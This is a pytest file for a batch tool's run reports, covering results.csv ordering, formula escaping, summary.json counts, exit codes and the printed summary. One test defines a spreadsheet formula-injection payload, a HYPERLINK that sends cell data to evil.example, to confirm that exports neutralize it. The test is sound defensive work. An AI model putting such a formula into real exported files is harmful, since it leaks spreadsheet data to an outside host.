"""Run reports: results.csv order and content, summary.json figures and exit code, the printed summary.

Results are fabricated over real loaded batches (the checked-in samples, or inputs the builders make),
so order, keys and row numbers are the ones the loader really produces.
"""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from rich.console import Console

from batch.jobs import (
    CREATED,
    EXISTS,
    FAILED,
    INVALID,
    PENDING,
    PLANNED,
    REMOVED,
    SKIPPED,
    STATUSES,
    UNDONE,
    UPDATED,
    RowResult,
)
from batch.load.inputs import LoadedBatch, load_inputs
from batch.report.aligned import NO_RESULT, row_keys
from batch.report.summary import build_summary, print_summary
from batch.report.writer import RESULT_COLUMNS, ReportPaths, write_reports
from tests.builders import input_sheets, write_csv_folder

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples"
STARTED = datetime(2026, 3, 2, 9, 30, 0, tzinfo=UTC)
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def samples() -> LoadedBatch:
    return load_inputs([SAMPLES / "onboarding.xlsx"])


def fabricate(loaded: LoadedBatch, status: Callable[[str, int], str]) -> list[RowResult]:
    """One result per input row; ``status(sheet, position)`` decides how it ended."""
    results = []
    for name, sheet in loaded.sheets.items():
        for i, (row, key) in enumerate(zip(sheet.frame["_row"].to_list(), row_keys(sheet), strict=True)):
            st = status(name, i)
            failed = st == FAILED
            results.append(
                RowResult(
                    name,
                    row,
                    key,
                    st,
                    message=f"{name} row {row} {st}" if st not in (CREATED, EXISTS) else "",
                    ids={"customer_id": f"cust-{i}", "org_id": f"org-{i}"} if name == "customers" else {},
                    error_code=4003 if failed else None,
                    tracking_id=f"ROUTER_{i}" if failed else None,
                    attempts=2 if failed else 1,
                )
            )
    return results


def summary_for(results: list[RowResult], **api: int) -> dict:
    return build_summary(results, api=api or {"requests": 10}, wall_seconds=5.0, started=STARTED, command="run")


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel shows ä/ö"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


# -- results.csv ------------------------------------------------------------------------------------


def test_results_csv_lists_every_row_in_input_order_whatever_order_results_come_in(
    samples: LoadedBatch, tmp_path: Path
) -> None:
    cycle = (CREATED, EXISTS, FAILED, SKIPPED)
    results = fabricate(samples, lambda sheet, i: cycle[i % 4])
    shuffled = random.Random(7).sample(results, len(results))
    paths = write_reports(tmp_path, samples, shuffled, summary_for(results))
    rows = read_csv(paths.results_csv)
    assert tuple(rows[0]) == RESULT_COLUMNS
    expected = [(name, str(row)) for name, sheet in samples.sheets.items() for row in sheet.frame["_row"].to_list()]
    assert [(r[0], r[1]) for r in rows[1:]] == expected
    assert [r[0] for r in rows[1:]][:3] == ["templates", "templates", "customers"]
    by_sheet_row = {(r[0], r[1]): dict(zip(RESULT_COLUMNS, r, strict=True)) for r in rows[1:]}
    customer = by_sheet_row[("customers", "4")]  # third customer: position 2 → failed
    assert customer["key"] == samples.sheets["customers"].frame["external_id"][2]
    assert customer["status"] == FAILED
    assert (customer["customer_id"], customer["org_id"], customer["error_code"]) == ("cust-2", "org-2", "4003")
    assert (customer["tracking_id"], customer["attempts"]) == ("ROUTER_2", "2")
    location = by_sheet_row[("locations", "2")]
    assert location["key"] == "FI-100101/Tampereen tehdas"
    user = by_sheet_row[("users", "2")]
    assert user["key"] == "it.tuki@makelankonepaja.fi"
    assert user["status"] == CREATED and user["message"] == "" and user["error_code"] == ""


def test_results_csv_neutralizes_formulas_but_not_phone_numbers(samples: LoadedBatch, tmp_path: Path) -> None:
    results = fabricate(samples, lambda sheet, i: CREATED)
    results[5] = RowResult(results[5].sheet, results[5].row, INJECTION, FAILED, message="@SUM(1+1) was refused")
    results[6] = RowResult(results[6].sheet, results[6].row, "+358 40 123 4567", FAILED, message="-1 numbers left")
    paths = write_reports(tmp_path, samples, results, summary_for(results))
    rows = read_csv(paths.results_csv)
    assert rows[6][2] == "'" + INJECTION
    assert rows[6][4] == "'@SUM(1+1) was refused"
    assert rows[7][2] == "+358 40 123 4567"
    assert rows[7][4] == "'-1 numbers left"


def test_rows_without_a_result_are_listed_and_stray_results_kept(samples: LoadedBatch, tmp_path: Path) -> None:
    results = fabricate(samples, lambda sheet, i: CREATED)
    missing = next(r for r in results if r.sheet == "locations")
    results.remove(missing)
    stray = RowResult("locations", 999, "FI-1/nowhere", FAILED, message="stray")
    results.append(stray)
    paths = write_reports(tmp_path, samples, results, summary_for(results))
    rows = [r for r in read_csv(paths.results_csv)[1:] if r[0] == "locations"]
    assert rows[0][:5] == ["locations", str(missing.row), missing.key, "", NO_RESULT]
    assert rows[-1][:5] == ["locations", "999", "FI-1/nowhere", FAILED, "stray"]
    assert len(rows) == samples.sheets["locations"].frame.height + 1


def test_merged_inputs_sharing_row_numbers_are_told_apart_by_key(tmp_path: Path) -> None:
    people = [
        [{"customer_external_id": "FI-1", "email": f"{who}{i}@example.fi", "first_name": who} for i in range(3)]
        for who in ("aino", "eero")
    ]
    first = write_csv_folder(tmp_path / "a", input_sheets(users=people[0]))
    second = write_csv_folder(tmp_path / "b", input_sheets(users=people[1]))
    loaded = load_inputs([first, second])
    users = loaded.sheets["users"].frame
    assert users["_row"].to_list() == [2, 3, 4, 2, 3, 4]
    results = [
        RowResult("users", row, email.upper(), FAILED if email.startswith("eero") else CREATED, message=email)
        for row, email in zip(users["_row"], users["email"], strict=True)
    ]
    results.reverse()  # eero's rows first: matching by row number alone would swap the two inputs
    paths = write_reports(tmp_path / "out", loaded, results, summary_for(results))
    header, *lines = read_csv(paths.results_csv)
    assert header[:3] == ["source", "sheet", "row"]  # merged inputs: each row names its input
    rows = [r for r in lines if r[1] == "users"]
    assert [r[5] for r in rows] == users["email"].to_list()
    assert [r[4] for r in rows] == [CREATED] * 3 + [FAILED] * 3
    assert [r[0] for r in rows] == [str(first / "users.csv")] * 3 + [str(second / "users.csv")] * 3


# -- summary.json -----------------------------------------------------------------------------------


def test_summary_counts_per_sheet_and_status_and_exit_code(samples: LoadedBatch) -> None:
    results = fabricate(samples, lambda sheet, i: {"users": SKIPPED if i < 4 else CREATED}.get(sheet, EXISTS))
    results.append(RowResult("users", 900, "x@example.fi", INVALID))
    summary = build_summary(
        results,
        api={"requests": 120, "retries": 4, "throttled": 2, "ambiguous": 1},
        wall_seconds=60.0,
        started=STARTED,
        command="rtm-batch run samples --out out",
    )
    users = samples.sheets["users"].frame.height
    assert summary["sheets"]["users"] == {
        CREATED: users - 4,
        EXISTS: 0,
        FAILED: 0,
        SKIPPED: 4,
        INVALID: 1,
        PLANNED: 0,
        UPDATED: 0,
        REMOVED: 0,
        PENDING: 0,
        UNDONE: 0,
        "rows": users + 1,
    }
    assert summary["sheets"]["templates"][EXISTS] == samples.sheets["templates"].frame.height
    assert list(summary["sheets"]) == ["templates", "customers", "locations", "users"]
    assert summary["totals"]["rows"] == len(results)
    assert summary["totals"][SKIPPED] == 4
    assert summary["api"] == {
        "requests": 120,
        "retries": 4,
        "throttled": 2,
        "ambiguous": 1,
        "achieved_rate": 2.0,
        "settled_rate": 0.0,
        "highest_rate_without_429": 0.0,
    }
    assert summary["started"] == "2026-03-02T09:30:00+00:00"
    assert summary["finished"] == "2026-03-02T09:31:00+00:00"
    assert summary["wall_seconds"] == 60.0
    assert summary["command"] == "rtm-batch run samples --out out"
    assert summary["retry_rows"] == 5
    assert summary["exit_code"] == 1


@pytest.mark.parametrize(
    ("statuses", "exit_code"),
    [
        ((CREATED, EXISTS, PLANNED), 0),
        ((CREATED, CREATED), 0),
        ((CREATED, FAILED), 1),
        ((EXISTS, SKIPPED), 1),
        ((PLANNED, INVALID), 1),
    ],
)
def test_exit_code_follows_contract_section_4(statuses: tuple[str, ...], exit_code: int) -> None:
    results = [RowResult("users", i + 2, f"u{i}@example.fi", status) for i, status in enumerate(statuses)]
    assert build_summary(results, api={}, wall_seconds=1.0, started=STARTED, command="run")["exit_code"] == exit_code


def test_summary_json_is_the_summary_given(samples: LoadedBatch, tmp_path: Path) -> None:
    results = fabricate(samples, lambda sheet, i: CREATED)
    summary = summary_for(results, requests=300, achieved_rate=9.5)
    paths = write_reports(tmp_path, samples, results, summary)
    assert json.loads(paths.summary_json.read_text(encoding="utf-8")) == summary
    assert summary["api"]["achieved_rate"] == 9.5
    assert set(summary["totals"]) == {*STATUSES, "rows"}


# -- printed summary --------------------------------------------------------------------------------


def _printed(summary: dict, paths: ReportPaths) -> str:
    out = io.StringIO()
    print_summary(Console(file=out, width=140, no_color=True, highlight=False), summary, paths)
    return out.getvalue()


def test_print_summary_shows_counts_api_figures_and_where_reports_are(samples: LoadedBatch, tmp_path: Path) -> None:
    results = fabricate(samples, lambda sheet, i: FAILED if sheet == "locations" and i == 0 else CREATED)
    summary = summary_for(results, requests=42, retries=3, throttled=1)
    paths = write_reports(tmp_path, samples, results, summary)
    text = _printed(summary, paths)
    users_line = next(line for line in text.splitlines() if line.strip().startswith("users"))
    n = str(samples.sheets["users"].frame.height)
    # rows, created, failed: only the statuses that occur get a column
    assert users_line.replace("│", " ").split() == ["users", n, n, "0"]
    assert "42 requests, 3 retries, 1 throttled (429)" in text
    assert str(paths.results_xlsx) in text
    assert f"1 rows to correct and run again in {paths.retry_dir}" in text
    assert "\x1b[" not in text


def test_print_summary_without_retry(samples: LoadedBatch, tmp_path: Path) -> None:
    results = fabricate(samples, lambda sheet, i: EXISTS)
    summary = summary_for(results)
    paths = write_reports(tmp_path, samples, results, summary)
    assert paths.retry_dir is None
    text = _printed(summary, paths)
    assert "Retry" not in text and str(paths.results_csv) in text


def test_a_step_note_with_its_own_parentheses_is_not_wrapped_in_another_pair() -> None:
    from batch.jobs import Job, Kind, Outcome
    from batch.report.fold.results import fold

    job = Job("customer:FI-1", Kind.CUSTOMER, "customers", 2)
    noted = {job.key: Outcome(EXISTS, message="done by an earlier run (journal)")}
    assert fold("customers", 2, "FI-1", [job], noted, "", "").message == (
        "customer exists: done by an earlier run (journal)"
    )
    plain = {job.key: Outcome(EXISTS, message="found by externalId")}
    assert fold("customers", 2, "FI-1", [job], plain, "", "").message == "customer exists (found by externalId)"
